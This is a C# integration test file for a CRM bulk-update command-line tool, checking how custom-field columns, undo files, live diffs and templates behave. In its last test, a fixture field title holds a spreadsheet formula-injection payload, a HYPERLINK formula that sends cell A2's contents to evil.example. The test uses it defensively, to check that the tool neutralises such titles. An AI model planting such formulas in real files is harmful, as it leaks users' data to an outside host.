using System.Text;
using LinerBulkUpdater.Cli;
using LinerBulkUpdater.Sandbox;

namespace LinerBulkUpdater.Tests.Integration;

/// <summary>
/// Hostile checks of custom fields (CONTRACT §7): the read-first features, baselines, undo files and odd answers.
/// The first group each caught a bug a user would hit (now fixed); the rest pin behaviour that matters.
/// </summary>
[LongRunning]
public sealed class CustomFieldHostileTests : IAsyncLifetime
{
    private static readonly UTF8Encoding Utf8 = new(false);

    // The sandbox's list, as a stub serves it; plus fields for the odd cases.
    private const string Fields = """
        [{"id":102,"title":"Тариф","type":"select","essence":"leads","params":[{"code":"basic","sort":1,"title":"Базовый"},{"code":"pro","sort":2,"title":"Профи"},{"code":"vip","sort":3,"title":"VIP"}],"sort":20},
         {"id":103,"title":"Сумма долга","type":"float","essence":"leads","params":[],"sort":30},
         {"id":104,"title":"Число просрочек","type":"int","essence":"leads","params":[],"sort":40},
         {"id":105,"title":"Дата договора","type":"date","essence":"leads","params":[],"sort":50},
         {"id":106,"title":"Время визита","type":"datetime","essence":"leads","params":[],"sort":60},
         {"id":107,"title":"Согласие на рассылку","type":"bool","essence":"leads","params":[],"sort":70},
         {"id":108,"title":"Интересы","type":"multiselect","essence":"leads","params":[{"code":"credit","sort":1,"title":"Кредит"},{"code":"deposit","sort":2,"title":"Вклад"},{"code":"card","sort":3,"title":"Карта"}],"sort":80},
         {"id":110,"title":"Уровень","type":"select","essence":"leads","params":[{"code":"vip","sort":1,"title":"Стандарт"},{"code":"std","sort":2,"title":"VIP"}],"sort":90},
         {"id":111,"title":"error","type":"string","essence":"leads","params":[],"sort":100}]
        """;

    private readonly TempFolder _folder = new();
    private SandboxServer _sandbox = null!;

    public async Task InitializeAsync() => _sandbox = await SandboxServer.StartAsync(new SandboxOptions { LatencyMs = 1 });

    public async Task DisposeAsync()
    {
        await _sandbox.DisposeAsync();
        _folder.Dispose();
    }

    // ---- Found as bugs, fixed ----

    /// <summary>
    /// Yesterday's export (with its custom-field columns) as the baseline of a file that sets only built-in fields: the
    /// list is read only for the input's header, so the baseline's custom column "matches no field" and the run stops.
    /// </summary>
    [Fact]
    public async Task A_baseline_with_custom_field_columns_works_when_the_input_has_none()
    {
        var baseline = _folder.Write("yesterday.csv", "lead_id,status,Тариф\n1,2,vip\n", Utf8);
        var input = _folder.Write("leads.csv", "lead_id,status\n1,3\n", Utf8);

        var result = await RunAsync(input, "--baseline", baseline);

        Assert.Equal("", result.Error);
        Assert.Equal(ExitCodes.Success, result.ExitCode);
    }

    /// <summary>
    /// A lead with no custom values: Liner is PHP, whose json_encode writes an empty map as <c>[]</c>. The tool takes
    /// that as "no value shown" and fails every such row under --live-diff ("shows no value for Тариф; not sent"),
    /// though it is the commonest lead of all the first time a field is filled in.
    /// </summary>
    [Theory]
    [InlineData("[]")]
    [InlineData("null")]
    public async Task Live_diff_takes_an_empty_or_null_customValues_as_no_custom_values(string customValues)
    {
        await using var liner = await StubLiner.StartAsync((_, _) => StubAnswer.Updated, Detail(customValues), Fields);
        var input = _folder.Write("leads.csv", "lead_id,Тариф\n1,vip\n", Utf8);

        var result = await CliRun.RunAsync(_folder, Stub(liner), "run", input, "--live-diff", "--dry-run");

        var row = CliRun.ReadReport(ReportOf(input)).Single();
        Assert.Equal(("dry_run", "Тариф: (empty) → vip"), (row["outcome"], row["changes"]));
        Assert.Equal(ExitCodes.Success, result.ExitCode);
    }

    /// <summary>
    /// Field 110's option <c>vip</c> is titled "Стандарт", and option <c>std</c> "VIP". Liner holds <c>vip</c>; the row
    /// sets <c>std</c>. The undo file writes <c>vip</c>, which reads back as a code-or-title clash, so the row is failed
    /// and not sent, though the undo could name the option unambiguously (its title "Стандарт").
    /// </summary>
    [Fact]
    public async Task Undo_covers_a_select_whose_code_is_another_options_title()
    {
        await using var liner = await StubLiner.StartAsync((_, _) => StubAnswer.Updated, Detail("""{"110":"vip"}"""), Fields);
        var input = _folder.Write("leads.csv", "lead_id,Уровень\n1,std\n", Utf8);
        var undo = Path.Combine(_folder.Path, "undo.csv");

        var result = await CliRun.RunAsync(_folder, Stub(liner), "run", input, "--undo", undo);

        var row = CliRun.ReadReport(ReportOf(input)).Single();
        Assert.Equal("", row["error"]);
        Assert.Equal("updated", row["outcome"]);
        Assert.Equal(ExitCodes.Success, result.ExitCode);
    }

    /// <summary>A custom field titled like a report column ('error') is silently dropped: its column is ignored, nothing sent, no word.</summary>
    [Fact]
    public async Task A_custom_field_titled_like_a_report_column_is_not_silently_dropped()
    {
        await using var liner = await StubLiner.StartAsync((_, _) => StubAnswer.Updated, Detail("{}"), Fields);
        var input = _folder.Write("leads.csv", "lead_id,error\n1,late payer\n", Utf8);

        var result = await CliRun.RunAsync(_folder, Stub(liner), "run", input, "--dry-run");

        // Either it maps to field 111 (dry_run) or the run refuses the column (exit 2); "skipped: every field is blank" is data lost.
        Assert.True(result.ExitCode == ExitCodes.Unusable || CliRun.ReadReport(ReportOf(input)).Single()["outcome"] == "dry_run",
            $"exit {result.ExitCode}, {result.Error}, report: {(result.ExitCode == ExitCodes.Unusable ? "" : string.Join(",", CliRun.ReadReport(ReportOf(input)).Single()))}");
    }

    // ---- Pinned behaviour ----

    /// <summary>Liner's answers in lenient shapes compare equal to the cell that wrote the same value.</summary>
    [Theory]
    [InlineData("""{"103":"1234.50"}""", "Сумма долга", "\"1 234,5\"")]
    [InlineData("""{"103":1234.50}""", "Сумма долга", "1234.5")]
    [InlineData("""{"103":"1 234,50"}""", "Сумма долга", "1234.5")]
    [InlineData("""{"104":"3"}""", "Число просрочек", "3")]
    [InlineData("""{"104":3.0}""", "Число просрочек", "3")]
    [InlineData("""{"107":"1"}""", "Согласие на рассылку", "да")]
    [InlineData("""{"107":1}""", "Согласие на рассылку", "TRUE")]
    [InlineData("""{"107":"false"}""", "Согласие на рассылку", "нет")]
    [InlineData("""{"108":["card","credit"]}""", "Интересы", "Кредит;Карта")]
    [InlineData("""{"108":"card; credit"}""", "Интересы", "credit;card")]
    [InlineData("""{"108":[]}""", "Интересы", "#clear")]
    [InlineData("""{"106":"2026-12-01T10:00:00+03:00"}""", "Время визита", "2026-12-01T07:00:00Z")]
    [InlineData("""{"105":"2026-12-01"}""", "Дата договора", "01.12.2026")]
    [InlineData("""{"102":"pro"}""", "Тариф", "профи")]
    [InlineData("""{}""", "Тариф", "#clear")]
    public async Task Live_diff_reads_lenient_shapes_of_customValues(string customValues, string column, string cell)
    {
        await using var liner = await StubLiner.StartAsync((_, _) => StubAnswer.Updated, Detail(customValues), Fields);
        var input = _folder.Write("leads.csv", $"lead_id,{column}\n1,{cell}\n", Utf8);

        var result = await CliRun.RunAsync(_folder, Stub(liner), "run", input, "--live-diff", "--dry-run");

        var row = CliRun.ReadReport(ReportOf(input)).Single();
        Assert.Equal(("unchanged", ""), (row["outcome"], row["changes"]));
        Assert.Equal(ExitCodes.Success, result.ExitCode);
    }

    /// <summary>Every type through a real run, an undo file, its application with --verify, and a live diff of the original.</summary>
    [Fact]
    public async Task Undo_round_trip_restores_every_type()
    {
        var first = _folder.Write("first.csv",
            "lead_id,Сумма долга,Число просрочек,Дата договора,Время визита,Согласие на рассылку,Интересы,Тариф,Номер договора\n" +
            "7,\"1 234,50\",3,01.12.2026,2026-12-01T10:00:00+03:00,да,card;Кредит,vip,\"=HYPERLINK(\"\"x\"\")\"\n", Utf8);
        Assert.Equal(ExitCodes.Success, (await RunAsync(first)).ExitCode);
        var second = _folder.Write("second.csv",
            "lead_id,Сумма долга,Число просрочек,Дата договора,Время визита,Согласие на рассылку,Интересы,Тариф,Номер договора\n" +
            "7,0.1,#clear,2027-01-01,1800000000,нет,Вклад,basic,X\n", Utf8);
        var undo = Path.Combine(_folder.Path, "undo.csv");

        var changed = await RunAsync(second, "--undo", undo, "--verify");
        var back = await RunAsync(undo, "--verify");
        var again = await RunAsync(first, "--live-diff", "--dry-run");

        Assert.Equal(ExitCodes.Success, changed.ExitCode);
        Assert.Equal(ExitCodes.Success, back.ExitCode);
        Assert.Equal(ExitCodes.Success, again.ExitCode);
        Assert.Equal("unchanged", CliRun.ReadReport(ReportOf(first)).Single()["outcome"]);
    }

    /// <summary>Rows of one lead in file order: a later row compares against what the earlier one set, custom values included.</summary>
    [Fact]
    public async Task Later_rows_of_a_lead_compare_against_earlier_rows_custom_values()
    {
        var input = _folder.Write("leads.csv", "lead_id,status,Тариф,Интересы\n8,3,vip,card\n8,4,vip,Карта\n8,4,basic,card\n", Utf8);

        var result = await RunAsync(input, "--live-diff");

        Assert.Equal(ExitCodes.Success, result.ExitCode);
        var rows = CliRun.ReadReport(ReportOf(input)).OrderBy(row => int.Parse(row["source_row"])).ToList();
        Assert.Equal(["updated", "updated", "updated"], rows.Select(row => row["outcome"]));
        Assert.Equal("status: 3 → 4", rows[1]["changes"]);
        Assert.Equal("Тариф: vip → basic", rows[2]["changes"]);
        var sent = _sandbox.Received.Where(request => request.LeadId == 8 && request.Route is SandboxRoute.Update or SandboxRoute.UpdateV2).Select(request => request.Route).ToList();
        Assert.Equal([SandboxRoute.Update, SandboxRoute.UpdateV2, SandboxRoute.Update, SandboxRoute.UpdateV2], sent);
    }

    /// <summary>Ctrl+C after a row's v1 update landed, before its v2: the row is failed, saying what was applied and that the rest was not sent.</summary>
    [Fact]
    public async Task Ctrl_c_between_the_v1_and_the_v2_update_says_what_was_applied()
    {
        using var interrupts = new Interrupts();
        await using var liner = await StubLiner.StartAsync((_, n) =>
        {
            if (n == 1)
            {
                interrupts.Press();
            }

            return StubAnswer.Updated;
        }, Detail("{}"), Fields);
        var input = _folder.Write("leads.csv", "lead_id,status,Тариф\n1,3,vip\n", Utf8);

        var result = await CliRun.RunAsync(_folder, Stub(liner), interrupts, "run", input);

        var row = CliRun.ReadReport(ReportOf(input)).Single();
        Assert.Equal(ExitCodes.Stopped, result.ExitCode);
        Assert.Equal("failed", row["outcome"]);
        Assert.StartsWith("status applied by the v1 update (HTTP 200); the custom values (Тариф) were not sent: ", row["error"]);
        Assert.Single(liner.Updates);
    }

    /// <summary>custom: with spaces, case and leading zeros is the field; it and its title together are two columns for one field.</summary>
    [Fact]
    public async Task Custom_id_columns_take_spaces_case_and_leading_zeros_and_clash_with_the_title()
    {
        var odd = _folder.Write("odd.csv", "lead_id, CUSTOM: 0102 ,  сумма ДОЛГА  \n1,vip,5\n", Utf8);
        var clash = _folder.Write("clash.csv", "lead_id,custom:0102,тариф\n1,vip,vip\n", Utf8);

        var ok = await RunAsync(odd);
        var refused = await RunAsync(clash);

        Assert.Equal(ExitCodes.Success, ok.ExitCode);
        Assert.Equal("""{"customValues":{"102":"vip","103":5}}""", Encoding.UTF8.GetString(_sandbox.Received.Single(request => request.Route == SandboxRoute.UpdateV2).Body));
        Assert.Equal(ExitCodes.Unusable, refused.ExitCode);
        Assert.Contains("both map to 'custom:102'", refused.Error);
    }

    /// <summary>A report of a custom-field run, fed back as input, sends the same values; and resuming from it skips what landed.</summary>
    [Fact]
    public async Task A_report_fed_back_and_resume_work_with_custom_columns()
    {
        var input = _folder.Write("leads.csv", "lead_id,Тариф,Сумма долга,Номер договора\n1,Профи,\"1 234,50\",=1+2\n2,vip,-0.5,\"@x\"\n", Utf8);
        Assert.Equal(ExitCodes.Success, (await RunAsync(input, "--report", Path.Combine(_folder.Path, "r1.xlsx"))).ExitCode);
        var bodies = _sandbox.Received.Where(request => request.Route == SandboxRoute.UpdateV2).Select(request => Encoding.UTF8.GetString(request.Body)).Order().ToList();

        var fedBack = await RunAsync(Path.Combine(_folder.Path, "r1.xlsx"));
        var resumed = await RunAsync(input, "--resume", Path.Combine(_folder.Path, "r1.xlsx"));

        Assert.Equal(ExitCodes.Success, fedBack.ExitCode);
        Assert.Equal(ExitCodes.Success, resumed.ExitCode);
        var again = _sandbox.Received.Where(request => request.Route == SandboxRoute.UpdateV2).Select(request => Encoding.UTF8.GetString(request.Body)).Order().ToList();
        Assert.Equal(bodies.Concat(bodies).Order(), again);
    }

    /// <summary>The template's workbook, filled in on its Leads sheet, runs: its custom-field columns map back.</summary>
    [Fact]
    public async Task A_filled_in_xlsx_template_with_custom_columns_runs()
    {
        var path = Path.Combine(_folder.Path, "template.xlsx");
        Assert.Equal(ExitCodes.Success, (await CliRun.RunAsync(_folder, CliRun.Against(_sandbox.BaseUrl), "template", path)).ExitCode);
        using (var workbook = new ClosedXML.Excel.XLWorkbook(path))
        {
            var sheet = workbook.Worksheet("Leads");
            var header = sheet.Row(1).CellsUsed().ToDictionary(cell => cell.GetString(), cell => cell.Address.ColumnNumber);
            sheet.Cell(2, header["lead_id"]).Value = 11;
            sheet.Cell(2, header["Тариф"]).Value = "VIP";
            sheet.Cell(2, header["Число просрочек"]).Value = 4;
            sheet.Cell(2, header["Сумма долга"]).Value = 1234.56;
            workbook.Save();
        }

        var result = await RunAsync(path);

        Assert.True(result.ExitCode == ExitCodes.Success, result.Out + result.Error + result.LogText);
        Assert.Equal("""{"customValues":{"102":"vip","103":1234.56,"104":4}}""",
            Encoding.UTF8.GetString(_sandbox.Received.Single(request => request.Route == SandboxRoute.UpdateV2).Body));
    }

    /// <summary>
    /// Liner's titles are text anyone with admin rights typed. The CSV template writes those that start like a formula
    /// with a leading ' (what a spreadsheet shows as text and never runs), and the filled-in file maps every column back.
    /// </summary>
    [Fact]
    public async Task A_filled_in_csv_template_of_custom_fields_titled_like_formulas_runs_none_and_maps_back()
    {
        const string formulas = """
            [{"id":301,"title":"=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")","type":"string","essence":"leads","params":[],"sort":10},
             {"id":302,"title":"-2+3","type":"int","essence":"leads","params":[],"sort":20},
             {"id":303,"title":"@SUM(1+1)","type":"select","essence":"leads","params":[{"code":"a","sort":1,"title":"=1+1"},{"code":"b","sort":2,"title":"B"}],"sort":30},
             {"id":304,"title":"+7 телефон","type":"string","essence":"leads","params":[],"sort":40},
             {"id":305,"title":"=x","type":"string","essence":"leads","params":[],"sort":50},
             {"id":306,"title":"'=x","type":"string","essence":"leads","params":[],"sort":60}]
            """;
        await using var liner = await StubLiner.StartAsync((_, _) => StubAnswer.Updated, customFields: formulas);
        var path = Path.Combine(_folder.Path, "template.csv");
        Assert.Equal(ExitCodes.Success, (await CliRun.RunAsync(_folder, Stub(liner), "template", path)).ExitCode);

        var header = File.ReadAllText(path, Utf8).TrimStart('\uFEFF').TrimEnd('\r', '\n');
        Assert.EndsWith(""",instagramLogin,externalIdBitrix24,externalIdAmo,externalIdMacro,externalIdDomoplaner,"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'-2+3,'@SUM(1+1),'+7 телефон,custom:305,''=x""", header);
        File.AppendAllText(path, "7,,,,,,,,,,,,,,,,,,site,5,=1+1,+79001234567,x,'x\r\n", Utf8);
        var result = await CliRun.RunAsync(_folder, Stub(liner), "run", path);

        Assert.True(result.ExitCode == ExitCodes.Success, result.Out + result.Error + result.LogText);
        Assert.Equal("""{"customValues":{"301":"site","302":5,"303":"a","304":"+79001234567","305":"x","306":"'x"}}""", liner.UpdateBodies.Single());
    }

    private static Func<string, long, StubAnswer> Detail(string customValues) => (version, id) => StubAnswer.Json(200,
        version == "v2"
            ? $$$"""{"success":true,"message":"","data":{"id":{{{id}}},"name":"Ann","statusId":2,"customValues":{{{customValues}}}}}"""
            : $$$"""{"success":true,"message":"","data":{"ID":{{{id}}}}}""");

    /// <summary>The stub answers v2 updates at its v1 route: the nth update of a lead counts both.</summary>
    private static Dictionary<string, string?> Stub(StubLiner liner)
    {
        var environment = CliRun.Against(liner.BaseUrl);
        environment["Liner__UpdateV2Path"] = "/v1/lead/update/{lead_id}/";
        return environment;
    }

    private Task<CliResult> RunAsync(string input, params string[] more) =>
        CliRun.RunAsync(_folder, CliRun.Against(_sandbox.BaseUrl), ["run", input, .. more]);

    private string ReportOf(string input) =>
        Directory.GetFiles(_folder.Path, Path.GetFileNameWithoutExtension(input) + ".report-*").OrderBy(File.GetLastWriteTimeUtc).Last();
}
